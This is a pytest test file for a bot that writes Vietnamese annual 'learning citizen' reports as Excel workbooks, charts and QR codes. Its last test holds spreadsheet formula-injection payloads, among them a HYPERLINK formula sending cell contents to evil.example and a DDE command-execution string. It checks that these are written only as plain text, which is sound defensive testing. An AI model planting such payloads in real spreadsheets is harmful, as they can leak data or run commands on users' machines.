import io
import struct
import warnings
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.figure import Figure
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from bot.annual_report import write_workbook
from bot.reports import PERCENT_FORMAT, draw_chart, qr_png
from conversations.digest import (
    ADULTS,
    DIGITAL,
    STAFF,
    Counts,
    Digest,
    PersonRow,
    PlaceRow,
    Share,
    Target,
)
from conversations.i18n import Translator

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
EN = Translator("en")
VI = Translator("vi")


def target(metric: str, value: float) -> Target:
    return Target(metric=metric, value=value, year=2026, set_by="UBND tỉnh Nghệ An")


def place(
    name: str,
    kind: str,
    population: int | None,
    counts: Counts,
    share_target: Target | None,
) -> PlaceRow:
    whole = population if population is not None else counts.registered
    share = Share(part=counts.recognised, whole=whole, target=share_target)
    return PlaceRow(
        place_id=None, name=name, kind=kind, population=population, counts=counts, share=share
    )


PLACES = (
    place("Xóm Đông Hải", "village", 120, Counts(40, 30, 20, 15, 12), target(ADULTS, 0.7)),
    place("Trường Tiểu học Nghi Lộc", "unit", None, Counts(25, 25, 20, 20, 18), None),
    place("Khối 3 (gõ tay)", "other", 80, Counts(10, 5, 2, 1, 0), target(ADULTS, 0.5)),
)
PEOPLE = (
    PersonRow(
        name="Nguyễn Thị Hằng",
        birth_year=1968,
        place="Xóm Đông Hải",
        group="Người lớn",
        total=92,
        digital_level="Cơ bản",
        status="Đạt CDHT",
        # 20:30 UTC is already the next day in Vietnam.
        submitted_at=datetime(2026, 3, 31, 20, 30, tzinfo=UTC),
    ),
    PersonRow(
        name="Lê Văn Đức",
        birth_year=None,
        place="Trường Tiểu học Nghi Lộc",
        group="Cán bộ",
        total=71,
        digital_level=None,
        status="Đã gửi",
        submitted_at=None,
    ),
)


def make_digest(
    rows: tuple[PlaceRow, ...] = PLACES, level: str = "commune", name: str = "Xã Nghi Phong"
) -> Digest:
    return Digest(
        org_id=7,
        org_name=name,
        level=level,
        year=2026,
        as_of=datetime(2026, 4, 1, 1, 0, tzinfo=UTC),
        totals=Counts(
            registered=80,
            assessed=60,
            submitted=42,
            confirmed=36,
            recognised=30,
            digital=20,
            proficient=5,
            unreachable=3,
        ),
        week_ago=Counts(registered=70, assessed=55, submitted=40, confirmed=30, recognised=30),
        adults=Share(12, 200, target(ADULTS, 0.7)),
        staff=Share(18, 25, target(STAFF, 0.8)),
        digital=Share(20, 30, target(DIGITAL, 0.6)),
        proficient=Share(5, 30, None),
        rows=rows,
        recognised_people=PEOPLE[:1],
        pending_people=PEOPLE,
    )


def png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data[:8] == PNG_SIGNATURE
    assert data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    return width, height


SHEETS = (
    "Report",
    "Summary",
    "QĐ 387 titles",
    "QĐ 677 citizens",
    "By village and unit",
    "Titles by village and unit",
    "Recognised citizens",
    "Recognised households, clans",
    "Started, not sent",
    "Pending",
    "Chart",
)


def sheets(path: Path, t: Translator) -> tuple[Worksheet, Worksheet, Worksheet, Worksheet]:
    workbook = load_workbook(path)
    assert workbook.sheetnames == [t(name) for name in SHEETS]
    titles = (t("Summary"), t("By village and unit"), t("Recognised citizens"), t("Pending"))
    summary, places, recognised, pending = (workbook[title] for title in titles)
    return summary, places, recognised, pending


def row_values(sheet: Worksheet, row: int) -> list[object]:
    return [cell.value for cell in sheet[row]]


# Workbook


@pytest.mark.parametrize("t", [VI, EN], ids=["vi", "en"])
def test_every_sheet_has_a_bold_frozen_header(tmp_path: Path, t: Translator) -> None:
    path = write_workbook(make_digest(), tmp_path / "report.xlsx", t)
    summary, *tables = sheets(path, t)
    for sheet, header_row in [(summary, 4), *[(table, 1) for table in tables]]:
        header = sheet[header_row]
        assert all(cell.value for cell in header)
        assert all(cell.font.bold for cell in header)
        assert sheet.freeze_panes == f"A{header_row + 1}"
        letters = [get_column_letter(i) for i in range(1, len(header) + 1)]
        widths = [sheet.column_dimensions[letter].width for letter in letters]
        assert all(0 < width <= 45 for width in widths)


def test_workbook_properties_name_the_commune_and_the_bot(tmp_path: Path) -> None:
    path = write_workbook(make_digest(), tmp_path / "report.xlsx", EN)
    workbook = load_workbook(path)
    assert workbook.properties.creator == "cdht"
    assert workbook.properties.title == "Learning citizens: Xã Nghi Phong, 2026"


def test_summary_lists_counts_with_change_and_shares_against_targets(tmp_path: Path) -> None:
    digest = make_digest()
    summary, *_ = sheets(write_workbook(digest, tmp_path / "report.xlsx", EN), EN)
    assert summary["A1"].value == "Learning citizens: Xã Nghi Phong, 2026"
    assert summary["A1"].font.bold
    assert summary["B2"].value == datetime(2026, 4, 1, 8, 0)
    assert summary["B2"].number_format == "dd/mm/yyyy"
    by_label = {row[0].value: row for row in summary.iter_rows(min_row=5)}
    registered = [cell.value for cell in by_label["Registered"]]
    assert registered == ["Registered", 80, None, None, None, 10]
    assert by_label["Blocked the bot"][1].value == 3
    assert isinstance(by_label["Recognised"][1].value, int)
    adults = by_label["Adults in villages with the title"]
    assert adults[1].value == pytest.approx(0.06)
    assert adults[2].value == pytest.approx(0.7)
    assert adults[3].value == 2026
    assert adults[4].value == pytest.approx(0.64)
    for cell in (adults[1], adults[2], adults[4]):
        assert isinstance(cell.value, float)
        assert cell.number_format == PERCENT_FORMAT
    proficient = by_label["Title holders proficient in digital skills"]
    assert proficient[1].value == pytest.approx(5 / 30)
    assert [cell.value for cell in proficient[2:5]] == [None, None, None]


def test_places_sheet_keeps_order_blanks_and_vietnamese_names(tmp_path: Path) -> None:
    _, places, _, _ = sheets(write_workbook(make_digest(), tmp_path / "report.xlsx", EN), EN)
    assert places["A1"].value == "Village or unit"
    names = [places.cell(row=r, column=1).value for r in range(2, 5)]
    assert names == ["Xóm Đông Hải", "Trường Tiểu học Nghi Lộc", "Khối 3 (gõ tay)"]
    assert [places.cell(row=r, column=2).value for r in range(2, 5)] == [
        "village",
        "unit",
        "not in the list",
    ]
    village, unit = row_values(places, 2), row_values(places, 3)
    assert village[2:8] == [120, 40, 30, 20, 15, 12]
    assert village[8] == pytest.approx(0.1)
    assert village[9] == pytest.approx(0.7)
    assert village[10] == pytest.approx(0.6)
    assert unit[2] is None  # population unknown
    assert unit[8] == pytest.approx(18 / 25)
    assert unit[9:11] == [None, None]  # no target, so no gap either
    shares = [places.cell(row=row, column=9) for row in range(2, 5)]
    assert all(share.number_format == PERCENT_FORMAT for share in shares)
    assert [type(share.value) for share in shares[:2]] == [float, float]
    # Excel has a single number type: a 0% share comes back as the integer 0.
    assert shares[2].value == 0


def test_places_totals_row_is_bold_values_from_the_digest(tmp_path: Path) -> None:
    digest = make_digest()
    _, places, _, _ = sheets(write_workbook(digest, tmp_path / "report.xlsx", EN), EN)
    last = places.max_row
    assert last == 1 + len(digest.rows) + 1
    written = row_values(places, last)
    assert written[0] == "Totals"
    totals = digest.totals
    expected = [
        totals.registered,
        totals.assessed,
        totals.submitted,
        totals.confirmed,
        totals.recognised,
    ]
    assert written[3:8] == expected
    assert all(isinstance(value, int) for value in written[3:8])
    assert all(cell.font.bold for cell in places[last])


def test_province_digest_lists_communes(tmp_path: Path) -> None:
    communes = tuple(replace(row, kind="commune") for row in PLACES)
    digest = make_digest(rows=communes, level="province", name="Tỉnh Nghệ An")
    for t, header, kind in [(EN, "Commune", "commune"), (VI, "Xã/phường", VI("commune"))]:
        path = write_workbook(digest, tmp_path / f"province-{t.locale}.xlsx", t)
        _, places, _, _ = sheets(path, t)
        assert places["A1"].value == header
        assert places["B2"].value == kind


def test_people_sheets_have_local_dates_and_statuses(tmp_path: Path) -> None:
    _, _, recognised, pending = sheets(
        write_workbook(make_digest(), tmp_path / "report.xlsx", VI), VI
    )
    header = row_values(recognised, 1)
    assert header == [
        "Họ và tên",
        "Năm sinh",
        "Thôn/tổ dân phố hoặc đơn vị",
        "Nhóm đối tượng",
        "Tổng điểm",
        "Kỹ năng số",
        "Ngày gửi",
    ]
    assert row_values(recognised, 2)[:6] == [
        "Nguyễn Thị Hằng",
        1968,
        "Xóm Đông Hải",
        "Người lớn",
        92,
        "Cơ bản",
    ]
    sent = recognised["G2"]
    assert isinstance(sent.value, datetime)
    assert sent.value == datetime(2026, 4, 1, 3, 30)  # Asia/Ho_Chi_Minh, naive
    assert sent.number_format == "dd/mm/yyyy"
    assert recognised.max_row == 2

    assert row_values(pending, 1) == [*header, "Trạng thái"]
    assert row_values(pending, 2)[-1] == "Đạt CDHT"
    assert row_values(pending, 3) == [
        "Lê Văn Đức",
        None,
        "Trường Tiểu học Nghi Lộc",
        "Cán bộ",
        71,
        None,
        None,
        "Đã gửi",
    ]


def test_an_empty_digest_still_makes_a_workbook(tmp_path: Path) -> None:
    digest = replace(make_digest(rows=()), recognised_people=(), pending_people=())
    _, places, recognised, pending = sheets(write_workbook(digest, tmp_path / "r.xlsx", EN), EN)
    assert places.max_row == 2  # header and totals
    assert recognised.max_row == 1
    assert pending.max_row == 1


def test_long_names_are_capped_in_width(tmp_path: Path) -> None:
    long_name = "Trường Trung học cơ sở " * 5
    rows = (replace(PLACES[0], name=long_name),)
    _, places, _, _ = sheets(write_workbook(make_digest(rows), tmp_path / "r.xlsx", EN), EN)
    assert places["A2"].value == long_name
    assert places.column_dimensions["A"].width == 45


# Chart


@pytest.mark.parametrize("t", [VI, EN], ids=["vi", "en"])
def test_chart_is_a_1200_by_800_png(tmp_path: Path, t: Translator) -> None:
    path = draw_chart(make_digest(), tmp_path / "chart.png", t)
    assert png_size(path) == (1200, 800)


def test_chart_of_an_empty_digest_keeps_its_size(tmp_path: Path) -> None:
    path = draw_chart(make_digest(rows=()), tmp_path / "chart.png", VI)
    assert png_size(path) == (1200, 800)


def test_chart_with_many_long_rows_is_cut_and_keeps_its_size(tmp_path: Path) -> None:
    rows = tuple(
        replace(PLACES[i % 3], name=f"Tổ dân phố số {i} phường Hưng Dũng thành phố Vinh Nghệ An")
        for i in range(40)
    )
    path = draw_chart(make_digest(rows), tmp_path / "chart.png", VI)
    assert png_size(path) == (1200, 800)


def test_chart_draws_vietnamese_without_missing_glyphs(tmp_path: Path) -> None:
    rows = (replace(PLACES[0], name="Xóm Đông Hải, Nghi Thiết, Quỳnh Lưu, Ứng Hòa"),)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        draw_chart(make_digest(rows, name="Phường Trường Vinh"), tmp_path / "chart.png", VI)


def test_missing_glyphs_would_be_noticed() -> None:
    """The check above is meaningful: a font without Vietnamese does warn."""
    figure = Figure()
    FigureCanvasAgg(figure)
    figure.text(0.5, 0.5, "Xóm Đông Hải", fontfamily="cmr10")
    with pytest.warns(UserWarning, match="Glyph"):
        figure.savefig(io.BytesIO(), format="png")


def test_chart_falls_back_to_the_adults_target_line(tmp_path: Path) -> None:
    rows = tuple(replace(row, share=replace(row.share, target=None)) for row in PLACES)
    path = draw_chart(make_digest(rows), tmp_path / "chart.png", EN)
    assert png_size(path) == (1200, 800)


# QR code


def test_qr_is_a_png_that_grows_with_the_link(tmp_path: Path) -> None:
    short = png_size(qr_png("https://t.me/cdht_bot", tmp_path / "short.png"))
    link = "https://t.me/cdht_bot?start=" + "xa-nghi-phong-" * 12
    long = png_size(qr_png(link, tmp_path / "long.png", caption="Xã Nghi Phong"))
    assert short[0] == short[1]
    # A full QR code (never Micro QR): at least 21 modules plus a 4-module border, 10 px each.
    assert short[0] >= (21 + 2 * 4) * 10
    assert long[0] > short[0]


HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-2", "@SUM(A1:A9)")


def test_peoples_text_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
    hostile_name, plus, minus, at = HOSTILE
    rows = tuple(replace(PLACES[0], name=name) for name in (hostile_name, plus, minus, "=1+1", at))
    people = tuple(
        replace(PEOPLE[0], name=name, place=place, group=group)
        for name, place, group in ((hostile_name, plus, minus), (at, "=A1", "\t=2+2"))
    )
    digest = replace(
        make_digest(rows, name="=cmd|' /C calc'!A0"),
        recognised_people=people,
        pending_people=people,
    )
    path = write_workbook(digest, tmp_path / "hostile.xlsx", EN)
    workbook = load_workbook(path)
    typed = [
        (cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.lstrip("\t")[:1] in "=+-@"
    ]
    written = {value for value, _ in typed}
    assert {*HOSTILE, "=1+1", "=A1", "\t=2+2"} <= written
    assert {data_type for _, data_type in typed} == {"s"}  # read back as strings, unchanged
    with zipfile.ZipFile(path) as archive:
        parts = [archive.read(name) for name in archive.namelist() if name.endswith(".xml")]
    assert not any(b"<f>" in part or b"<f " in part for part in parts)  # no formula at all
